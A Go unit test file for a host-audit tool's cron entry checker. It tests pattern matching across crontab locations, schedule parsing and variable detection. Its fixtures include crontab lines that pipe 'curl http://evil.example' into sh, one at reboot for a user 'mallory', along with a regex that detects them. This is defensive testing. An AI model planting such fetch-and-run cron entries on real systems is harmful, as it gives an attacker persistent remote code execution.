package check

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/hostaudit/hostaudit/internal/model"
	"github.com/hostaudit/hostaudit/internal/policy"
)

// cronFixture holds the three crontab locations used by the checker.
type cronFixture struct {
	systemCrontab string
	cronDir       string
	userCronDir   string
}

// writeCronFixture builds the standard crontab layout in a temp dir.
func writeCronFixture(t *testing.T, systemContent string, dropIns, userTabs map[string]string) cronFixture {
	t.Helper()
	dir := t.TempDir()
	fx := cronFixture{
		systemCrontab: filepath.Join(dir, "crontab"),
		cronDir:       filepath.Join(dir, "cron.d"),
		userCronDir:   filepath.Join(dir, "crontabs"),
	}
	if systemContent != "" {
		if err := os.WriteFile(fx.systemCrontab, []byte(systemContent), 0600); err != nil {
			t.Fatalf("failed to write system crontab: %v", err)
		}
	}
	for name, content := range dropIns {
		if err := os.MkdirAll(fx.cronDir, 0750); err != nil {
			t.Fatalf("failed to create cron.d: %v", err)
		}
		if err := os.WriteFile(filepath.Join(fx.cronDir, name), []byte(content), 0600); err != nil {
			t.Fatalf("failed to write cron.d file: %v", err)
		}
	}
	for owner, content := range userTabs {
		if err := os.MkdirAll(fx.userCronDir, 0750); err != nil {
			t.Fatalf("failed to create user cron dir: %v", err)
		}
		if err := os.WriteFile(filepath.Join(fx.userCronDir, owner), []byte(content), 0600); err != nil {
			t.Fatalf("failed to write user crontab: %v", err)
		}
	}
	return fx
}

func (fx cronFixture) checker() *CronEntryChecker {
	return NewCronEntryChecker(fx.systemCrontab, fx.cronDir, fx.userCronDir)
}

func TestCronEntryChecker(t *testing.T) {
	t.Parallel()

	t.Run("Type returns cron_entry", func(t *testing.T) {
		t.Parallel()

		fx := writeCronFixture(t, "", nil, nil)
		if got := fx.checker().Type(); got != policy.CheckCronEntry {
			t.Errorf("Type() = %q, want %q", got, policy.CheckCronEntry)
		}
	})

	t.Run("forbidden pattern absent passes", func(t *testing.T) {
		t.Parallel()

		fx := writeCronFixture(t, "0 3 * * * root /usr/bin/backup\n", nil, nil)
		control := &policy.Control{Pattern: `curl.*\|\s*sh`, Expected: "absent"}

		result, err := fx.checker().Check(context.Background(), control)
		if err != nil {
			t.Fatalf("Check() returned error: %v", err)
		}
		if result.Status != model.StatusPass {
			t.Errorf("Status = %v, want StatusPass (message: %s)", result.Status, result.Message)
		}
		if result.Actual != "0 matching entries" {
			t.Errorf("Actual = %q, want %q", result.Actual, "0 matching entries")
		}
	})

	t.Run("forbidden pattern present fails with one finding per match", func(t *testing.T) {
		t.Parallel()

		fx := writeCronFixture(t,
			"*/5 * * * * root curl http://evil.example | sh\n",
			nil,
			map[string]string{"mallory": "@reboot curl http://evil.example | sh\n"},
		)
		control := &policy.Control{ID: "CRN-001", Pattern: `curl.*\|\s*sh`}

		result, err := fx.checker().Check(context.Background(), control)
		if err != nil {
			t.Fatalf("Check() returned error: %v", err)
		}
		if result.Status != model.StatusFail {
			t.Errorf("Status = %v, want StatusFail", result.Status)
		}
		if len(result.Findings) != 2 {
			t.Fatalf("expected 2 findings, got %d", len(result.Findings))
		}
		for _, f := range result.Findings {
			if f.Type != "cron_unexpected_entry" {
				t.Errorf("finding type = %q, want cron_unexpected_entry", f.Type)
			}
			if f.ControlID != "CRN-001" {
				t.Errorf("finding ControlID = %q, want CRN-001", f.ControlID)
			}
		}
	})

	t.Run("required pattern present passes", func(t *testing.T) {
		t.Parallel()

		fx := writeCronFixture(t, "0 3 * * * root /usr/bin/backup --full\n", nil, nil)
		control := &policy.Control{Pattern: "backup", Expected: "present"}

		result, err := fx.checker().Check(context.Background(), control)
		if err != nil {
			t.Fatalf("Check() returned error: %v", err)
		}
		if result.Status != model.StatusPass {
			t.Errorf("Status = %v, want StatusPass", result.Status)
		}
	})

	t.Run("required pattern missing fails", func(t *testing.T) {
		t.Parallel()

		fx := writeCronFixture(t, "", nil, nil)
		control := &policy.Control{Pattern: "backup", Expected: "present"}

		result, err := fx.checker().Check(context.Background(), control)
		if err != nil {
			t.Fatalf("Check() returned error: %v", err)
		}
		if result.Status != model.StatusFail {
			t.Errorf("Status = %v, want StatusFail", result.Status)
		}
		if len(result.Findings) != 1 {
			t.Fatalf("expected 1 finding, got %d", len(result.Findings))
		}
		if result.Findings[0].Type != "cron_entry_missing" {
			t.Errorf("finding type = %q, want cron_entry_missing", result.Findings[0].Type)
		}
	})

	t.Run("user narrows the search", func(t *testing.T) {
		t.Parallel()

		fx := writeCronFixture(t, "", nil, map[string]string{
			"alice": "0 1 * * * /home/alice/sync.sh\n",
			"bob":   "0 1 * * * /home/bob/sync.sh\n",
		})
		control := &policy.Control{Pattern: "sync", Expected: "absent", User: "bob"}

		result, err := fx.checker().Check(context.Background(), control)
		if err != nil {
			t.Fatalf("Check() returned error: %v", err)
		}
		if result.Status != model.StatusFail {
			t.Errorf("Status = %v, want StatusFail", result.Status)
		}
		if len(result.Findings) != 1 {
			t.Fatalf("expected 1 finding (bob only), got %d", len(result.Findings))
		}
		if result.Findings[0].Value != "/home/bob/sync.sh" {
			t.Errorf("finding value = %q, want bob's command", result.Findings[0].Value)
		}
	})

	t.Run("missing pattern is an evaluation error", func(t *testing.T) {
		t.Parallel()

		fx := writeCronFixture(t, "", nil, nil)
		result, err := fx.checker().Check(context.Background(), &policy.Control{})
		if err != nil {
			t.Fatalf("Check() returned error: %v", err)
		}
		if result.Status != model.StatusError {
			t.Errorf("Status = %v, want StatusError", result.Status)
		}
	})

	t.Run("unknown expected state is an evaluation error", func(t *testing.T) {
		t.Parallel()

		fx := writeCronFixture(t, "", nil, nil)
		control := &policy.Control{Pattern: "x", Expected: "sometimes"}
		result, err := fx.checker().Check(context.Background(), control)
		if err != nil {
			t.Fatalf("Check() returned error: %v", err)
		}
		if result.Status != model.StatusError {
			t.Errorf("Status = %v, want StatusError", result.Status)
		}
	})
}

func TestCollectCron(t *testing.T) {
	t.Parallel()

	t.Run("gathers entries from all three locations", func(t *testing.T) {
		t.Parallel()

		fx := writeCronFixture(t,
			"SHELL=/bin/sh\n0 3 * * * root /usr/bin/backup\n",
			map[string]string{"sysstat": "*/10 * * * * root /usr/lib/sysstat/sa1\n"},
			map[string]string{"alice": "@daily /home/alice/cleanup.sh\n"},
		)

		entries, err := CollectCron(fx.systemCrontab, fx.cronDir, fx.userCronDir)
		if err != nil {
			t.Fatalf("CollectCron() returned error: %v", err)
		}
		if len(entries) != 3 {
			t.Fatalf("got %d entries, want 3", len(entries))
		}

		byUser := make(map[string]model.CronRecord, len(entries))
		for _, e := range entries {
			byUser[e.User] = e
		}
		if e := byUser["root"]; e.Command != "/usr/bin/backup" && e.Command != "/usr/lib/sysstat/sa1" {
			t.Errorf("root entry command = %q, unexpected", e.Command)
		}
		alice := byUser["alice"]
		if alice.Schedule != "@daily" || alice.Command != "/home/alice/cleanup.sh" {
			t.Errorf("alice entry = %+v, want @daily cleanup", alice)
		}
	})

	t.Run("missing locations yield no entries", func(t *testing.T) {
		t.Parallel()

		dir := t.TempDir()
		entries, err := CollectCron(
			filepath.Join(dir, "crontab"),
			filepath.Join(dir, "cron.d"),
			filepath.Join(dir, "crontabs"),
		)
		if err != nil {
			t.Fatalf("CollectCron() returned error: %v", err)
		}
		if len(entries) != 0 {
			t.Errorf("got %d entries, want 0", len(entries))
		}
	})
}

func TestSplitSchedule(t *testing.T) {
	t.Parallel()

	tests := []struct {
		name         string
		line         string
		wantSchedule string
		wantRest     string
		wantOK       bool
	}{
		{"standard five fields", "0 3 * * * /usr/bin/backup", "0 3 * * *", "/usr/bin/backup", true},
		{"shorthand", "@reboot /usr/local/bin/agent", "@reboot", "/usr/local/bin/agent", true},
		{"too few fields", "0 3 * * *", "", "", false},
		{"bare shorthand", "@daily", "", "", false},
		{"empty", "", "", "", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()

			schedule, rest, ok := splitSchedule(tt.line)
			if ok != tt.wantOK {
				t.Fatalf("splitSchedule(%q) ok = %v, want %v", tt.line, ok, tt.wantOK)
			}
			if schedule != tt.wantSchedule || rest != tt.wantRest {
				t.Errorf("splitSchedule(%q) = (%q, %q), want (%q, %q)",
					tt.line, schedule, rest, tt.wantSchedule, tt.wantRest)
			}
		})
	}
}

func TestIsVariableAssignment(t *testing.T) {
	t.Parallel()

	tests := []struct {
		line string
		want bool
	}{
		{"SHELL=/bin/sh", true},
		{"PATH=/usr/bin:/bin", true},
		{"MAILTO=root", true},
		{"0 3 * * * root /usr/bin/backup", false},
		{"@daily /usr/bin/task arg=1", false},
		{"=value", false},
	}

	for _, tt := range tests {
		t.Run(tt.line, func(t *testing.T) {
			t.Parallel()

			if got := isVariableAssignment(tt.line); got != tt.want {
				t.Errorf("isVariableAssignment(%q) = %v, want %v", tt.line, got, tt.want)
			}
		})
	}
}
